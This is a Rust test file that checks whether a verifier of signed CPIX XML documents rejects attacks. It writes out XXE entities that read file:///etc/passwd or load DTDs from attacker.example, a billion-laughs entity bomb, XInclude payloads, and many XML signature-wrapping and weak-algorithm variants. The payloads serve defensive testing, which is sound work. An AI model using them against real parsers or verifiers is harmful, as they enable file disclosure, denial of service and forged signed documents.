//! Attacks 59 and 60: documents that do something on being read, and signatures wrapped, doubled or weakened.

use super::signing::Signer;
use super::{CONTENT, PLAIN, REFUSED, entries, key, not_cpix, signed, text, verify};

/// A signed document whose signature is the last child of the root, in the default namespace.
const SIGNED: &str = "xmlsec exclusive ecdsa-sha256";

/// That document as: from its start tag to its signature, the signature, the rest.
fn parts() -> (&'static str, &'static str, &'static str) {
    let document = signed(SIGNED);
    let start = document.find("<Signature ").unwrap();
    let end = document.find("</Signature>").unwrap() + "</Signature>".len();
    (&document[..start], &document[start..end], &document[end..])
}

fn code(document: &str) -> &'static str {
    verify(document, &key("p256")).expect_err(document)
}

/// The code for the signed document with `old`, which occurs in it, replaced everywhere.
fn changed(old: &str, new: &str) -> &'static str {
    assert!(signed(SIGNED).contains(old), "{old}");
    code(&signed(SIGNED).replace(old, new))
}

/// The code for the fixture of this name, whose signature is right but for its form.
fn weak(name: &str) -> &'static str {
    let entry = entries(&REFUSED).iter().find(|entry| entry["name"] == name).unwrap_or_else(|| panic!("no {name}"));
    let code = verify(text(entry, "document"), &key(text(entry, "key")));
    code.expect_err(name)
}

/// The signed document in one of the attacker's: `before` and `after` it.
fn evil(before: &str, after: &str) -> String {
    format!(r#"<CPIX xmlns="urn:dashif:org:cpix" contentId="evil">{before}{}{after}</CPIX>"#, signed(SIGNED))
}

#[test]
fn attack_59_a_dtd_of_any_form() {
    for dtd in [
        "<!DOCTYPE CPIX>",
        "<!DOCTYPE CPIX []>",
        r#"<!DOCTYPE CPIX SYSTEM "http://attacker.example/cpix.dtd">"#,
        r#"<!DOCTYPE CPIX PUBLIC "a" "http://attacker.example/cpix.dtd">"#,
        r#"<!DOCTYPE CPIX [<!ATTLIST CPIX contentId CDATA "evil">]>"#,
        r#"<?xml version="1.0"?><!-- --><!DOCTYPE CPIX>"#,
        "<!doctype CPIX>",
    ] {
        assert_eq!(not_cpix(format!("{dtd}{PLAIN}").as_bytes()), "a DTD or a broken declaration", "{dtd}");
    }
    for document in [format!("{PLAIN}<!DOCTYPE CPIX>"), PLAIN.replace("<a ", "<!DOCTYPE CPIX><a ")] {
        assert_eq!(not_cpix(document.as_bytes()), "a DTD or a broken declaration", "{document}");
    }
}

#[test]
fn attack_59_a_billion_laughs() {
    let mut dtd = String::from(r#"<!DOCTYPE CPIX [<!ENTITY l0 "lol">"#);
    for level in 1..20 {
        dtd += &format!(r#"<!ENTITY l{level} "{}">"#, format!("&l{};", level - 1).repeat(10));
    }
    not_cpix(format!("{dtd}]>{}", PLAIN.replace("d</a>", "&l19;</a>")).as_bytes());
    assert_eq!(
        not_cpix(PLAIN.replace("d</a>", "&l19;</a>").as_bytes()),
        "an entity other than the five predefined ones"
    );
}

#[test]
fn attack_59_external_and_parameter_entities() {
    for dtd in [
        r#"<!DOCTYPE CPIX [<!ENTITY x SYSTEM "file:///etc/passwd">]>"#,
        r#"<!DOCTYPE CPIX [<!ENTITY x PUBLIC "x" "http://attacker.example/">]>"#,
        r#"<!DOCTYPE CPIX [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>"#,
    ] {
        not_cpix(format!("{dtd}{}", PLAIN.replace("d</a>", "&x;</a>")).as_bytes());
        not_cpix(format!("{dtd}{}", PLAIN.replace("content-1", "&x;")).as_bytes());
    }
}

#[test]
fn attack_59_xinclude_includes_nothing() {
    let include = r#"<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>"#;
    let signer = Signer::new();
    let document = signer.sign(&PLAIN.replace("d</a>", &format!("{include}</a>")));
    assert_eq!(verify(&document, signer.key()).as_deref(), Ok(CONTENT));
    assert_eq!(changed("<ContentKeyList>", &format!("<ContentKeyList>{include}")), "MDRM-916");
}

#[test]
fn attack_60_the_signed_document_moved_into_an_object_of_its_signature() {
    let (before, signature, after) = parts();
    let original = format!("{before}{after}");
    let wrapped = signature.replace("</Signature>", &format!("<Object>{original}</Object></Signature>"));
    assert_eq!(code(&format!(r#"<CPIX xmlns="urn:dashif:org:cpix" contentId="evil">{wrapped}</CPIX>"#)), "MDRM-918");
}

#[test]
fn attack_60_the_signed_document_moved_into_another_element() {
    let (before, signature, after) = parts();
    let original = format!("{before}{after}");
    for wrapped in [format!("<Wrap>{original}</Wrap>{signature}"), format!("{signature}{original}")] {
        let document = format!(r#"<CPIX xmlns="urn:dashif:org:cpix" contentId="evil">{wrapped}</CPIX>"#);
        assert_eq!(code(&document), "MDRM-916");
    }
    // With its signature inside: that is not the signature of the new root.
    assert_eq!(code(&evil("", "")), "MDRM-915");
    assert_eq!(code(&evil("<Wrap>", "</Wrap>")), "MDRM-915");
}

#[test]
fn attack_60_a_second_root_inside_or_beside() {
    let second = r#"<CPIX xmlns="urn:dashif:org:cpix" contentId="evil"/>"#;
    let (before, signature, after) = parts();
    assert_eq!(code(&format!("{before}{second}{signature}{after}")), "MDRM-916");
    assert_eq!(code(&format!("{before}{signature}{second}{after}")), "MDRM-916");
    assert_eq!(code(&format!("{second}{}", signed(SIGNED))), "MDRM-910");
    assert_eq!(code(&format!("{}{second}", signed(SIGNED))), "MDRM-910");
}

#[test]
fn attack_60_a_second_content_id() {
    let own = r#"contentId="content-1""#;
    for (new, expected) in [
        (r#"contentId="content-1" contentId="evil""#, "MDRM-910"),
        (r#"contentId="evil" contentId="content-1""#, "MDRM-910"),
        (r#"contentId="evil""#, "MDRM-916"),
        (r#"contentId="content-1" ContentId="evil""#, "MDRM-916"),
        (r#"contentId="content-1" x:contentId="evil" xmlns:x="urn:dashif:org:cpix""#, "MDRM-916"),
        (r#"x:contentId="content-1" contentId="evil" xmlns:x="urn:x""#, "MDRM-916"),
        (r#"contentId="content-1<!-- evil -->""#, "MDRM-910"),
        (r#"contentId="content-1&#0;evil""#, "MDRM-910"),
    ] {
        assert_eq!(changed(own, new), expected, "{new}");
    }
    assert_eq!(changed("<ContentKeyList>", r#"<ContentKeyList contentId="evil">"#), "MDRM-916");
}

#[test]
fn attack_60_a_content_id_in_another_namespace_is_none() {
    let signer = Signer::new();
    for namespace in ["urn:x", "urn:dashif:org:cpix"] {
        let attribute = format!(r#"x:contentId="content-1" xmlns:x="{namespace}""#);
        let document = signer.sign(&PLAIN.replace(r#"contentId="content-1""#, &attribute));
        assert_eq!(verify(&document, signer.key()), Err("MDRM-903"));
    }
}

#[test]
fn attack_60_two_signatures_of_the_whole() {
    assert_eq!(weak("two signatures of the whole"), "MDRM-915");
    let (before, signature, after) = parts();
    assert_eq!(code(&format!("{before}{signature}{signature}{after}")), "MDRM-915");
    assert_eq!(code(&format!("{before}<Wrap>{signature}</Wrap>{signature}{after}")), "MDRM-915");
    let inside = signature.replace("</Signature>", &format!("<KeyInfo>{signature}</KeyInfo></Signature>"));
    assert_eq!(code(&format!("{before}{inside}{after}")), "MDRM-915");
    let other = signature.replace("<SignedInfo>", "<SignedInfo/><SignedInfo>");
    assert_eq!(code(&format!("{before}{signature}{other}{after}")), "MDRM-915");
}

#[test]
fn attack_60_a_signature_that_is_no_child_of_the_root() {
    assert_eq!(weak("a signature that is no child of the root"), "MDRM-915");
}

#[test]
fn attack_60_a_reference_to_something_else() {
    for name in ["a reference to a part", "a reference to the root by its id", "an XPointer to the root"] {
        assert_eq!(weak(name), "MDRM-915", "{name}");
    }
    for uri in ["#x", "#", " ", "&#x20;", "?", ".", "#xpointer(/)", "http://attacker.example/", "file:///etc/passwd"] {
        assert_eq!(changed(r#"URI="""#, &format!(r#"URI="{uri}""#)), "MDRM-915", "{uri}");
    }
    assert_eq!(changed(r#" URI="""#, ""), "MDRM-915");
    assert_eq!(changed(r#" URI="""#, r#" x:URI="" xmlns:x="http://www.w3.org/2000/09/xmldsig#""#), "MDRM-915");
}

#[test]
fn attack_60_several_references_and_manifests() {
    assert_eq!(weak("two references"), "MDRM-918");
    assert_eq!(weak("a reference to a part beside the whole"), "MDRM-918");
    assert_eq!(weak("a Manifest in the signature"), "MDRM-915");
    assert_eq!(weak("an Object in the signature"), "MDRM-918");
}

#[test]
fn attack_60_transforms_that_choose_what_is_digested() {
    for name in ["XPath", "XPath beside a canonicalisation", "XPath in place of enveloped-signature", "XSLT"] {
        assert_eq!(weak(name), "MDRM-918", "{name}");
    }
    assert_eq!(weak("canonicalisation twice"), "MDRM-918");
    let enveloped = r#"<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>"#;
    let exclusive = r#"<Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>"#;
    let base64 = r#"<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#base64"/>"#;
    let unnamed = "<Transform/>";
    for transforms in [
        String::new(),
        exclusive.into(),
        format!("{exclusive}{enveloped}"),
        format!("{enveloped}{enveloped}"),
        format!("{enveloped}{exclusive}{exclusive}"),
        format!("{enveloped}{base64}"),
        format!("{enveloped}{unnamed}"),
        format!("{unnamed}{exclusive}"),
        format!("{enveloped}text{exclusive}"),
        format!("{enveloped}<?a?>{exclusive}"),
        format!("{enveloped}<Other/>"),
    ] {
        assert_eq!(changed(&format!("{enveloped}{exclusive}"), &transforms), "MDRM-918", "{transforms}");
    }
    let with_parameter = exclusive.replace("/>", "><Other/></Transform>");
    assert_eq!(changed(exclusive, &with_parameter), "MDRM-918");
}

#[test]
fn attack_60_weak_algorithms_and_the_public_key_as_a_secret() {
    for name in [
        "SHA-1 signature",
        "SHA-1 digest",
        "ECDSA with SHA-1",
        "SHA-384 signature",
        "SHA-384 digest",
        "HMAC with the public key",
        "comments in SignedInfo's form",
        "comments in the document's form",
    ] {
        assert_eq!(weak(name), "MDRM-918", "{name}");
    }
    let method = r#"<SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"/>"#;
    for other in [
        r"<SignatureMethod/>",
        r#"<SignatureMethod Algorithm=""/>"#,
        r#"<SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#ECDSA-SHA256"/>"#,
        r#"<SignatureMethod Algorithm="http://www.w3.org/2000/09/xmldsig#dsa-sha1"/>"#,
        r#"<SignatureMethod Algorithm="http://www.w3.org/2007/05/xmldsig-more#sha256-rsa-MGF1"/>"#,
        r#"<SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#ecdsa-sha256"><HMACOutputLength>0</HMACOutputLength></SignatureMethod>"#,
    ] {
        assert_eq!(changed(method, other), "MDRM-918", "{other}");
    }
    // The method is exchanged for another that is allowed: the key does not fit, or the signature does not.
    assert_eq!(changed("#ecdsa-sha256", "#rsa-sha256"), "MDRM-917");
    let rsa = signed("xmlsec exclusive rsa-sha256").replace("#rsa-sha256", "#rsa-sha512");
    assert_eq!(verify(&rsa, &key("rsa")), Err("MDRM-916"));
}

#[test]
fn attack_60_a_key_info_with_another_key() {
    let attacker = Signer::new();
    let info = "<ds:KeyInfo><ds:KeyName>registered</ds:KeyName></ds:KeyInfo></ds:Signature>";
    let document = attacker.sign(&PLAIN.replace("content-1", "evil")).replace("</ds:Signature>", info);
    assert_eq!(verify(&document, attacker.key()).as_deref(), Ok("evil"));
    assert_eq!(code(&document), "MDRM-916");
}

#[test]
fn attack_60_elements_of_cpix_in_the_part_that_is_not_signed() {
    for hidden in ["<c:CPIX contentId='evil'/>", "<X509Data><c:ContentKeyList/></X509Data>"] {
        let info = format!("<KeyInfo xmlns:c='urn:dashif:org:cpix'>{hidden}</KeyInfo></Signature>");
        assert_eq!(changed("</Signature>", &info), "MDRM-918", "{hidden}");
    }
    let (before, signature, after) = parts();
    let outside = signature.replace("</Signature>", "<KeyInfo/></Signature>");
    assert_eq!(verify(&format!("{before}{outside}{after}"), &key("p256")).as_deref(), Ok(CONTENT));
}

/// CVE-2025-29774 and CVE-2025-29775: what is read must be what was signed.
#[test]
fn attack_60_two_signed_infos_or_a_comment_in_a_digest() {
    let (before, signature, after) = parts();
    let start = signature.find("<SignedInfo>").unwrap();
    let end = signature.find("</SignedInfo>").unwrap() + "</SignedInfo>".len();
    let signed_info = &signature[start..end];
    for both in [
        format!("{signed_info}{signed_info}"),
        format!("<SignedInfo/>{signed_info}"),
        format!("{signed_info}<SignedInfo/>"),
    ] {
        let document = format!("{before}{}{after}", signature.replace(signed_info, &both));
        assert_eq!(code(&document), "MDRM-918");
    }
    for comment in ["<!---->", "<!-- other -->", "<![CDATA[]]>", "<?a?>", "<b/>"] {
        assert_eq!(changed("</DigestValue>", &format!("{comment}</DigestValue>")), "MDRM-918", "{comment}");
        assert_eq!(changed("<DigestValue>", &format!("<DigestValue>{comment}")), "MDRM-918", "{comment}");
        assert_eq!(changed("</SignatureValue>", &format!("{comment}</SignatureValue>")), "MDRM-918", "{comment}");
    }
}

#[test]
fn attack_60_missing_doubled_and_reordered_parts_of_a_signature() {
    let (before, signature, after) = parts();
    let element = |name: &str| {
        let start = signature.find(&format!("<{name}")).unwrap();
        let end = match signature.find(&format!("</{name}>")) {
            Some(end) => end + name.len() + 3,
            None => start + signature[start..].find("/>").unwrap() + 2,
        };
        &signature[start..end]
    };
    for name in
        ["CanonicalizationMethod", "SignatureMethod", "Transforms", "DigestMethod", "DigestValue", "SignatureValue"]
    {
        for (new, what) in [(String::new(), "none"), (element(name).repeat(2), "two")] {
            let document = format!("{before}{}{after}", signature.replace(element(name), &new));
            assert_eq!(code(&document), "MDRM-918", "{what} of {name}");
        }
    }
    for name in ["SignedInfo", "Reference"] {
        let document = format!("{before}{}{after}", signature.replace(element(name), ""));
        assert_eq!(code(&document), "MDRM-915", "no {name}");
    }
    let value = element("SignatureValue");
    let reordered = signature.replace(value, "").replace("<SignedInfo>", &format!("{value}<SignedInfo>"));
    assert_eq!(code(&format!("{before}{reordered}{after}")), "MDRM-918");
    // An element of another namespace is another element.
    let foreign = signature.replace("<DigestValue>", "<DigestValue xmlns='urn:x'>");
    assert_eq!(code(&format!("{before}{foreign}{after}")), "MDRM-918");
}
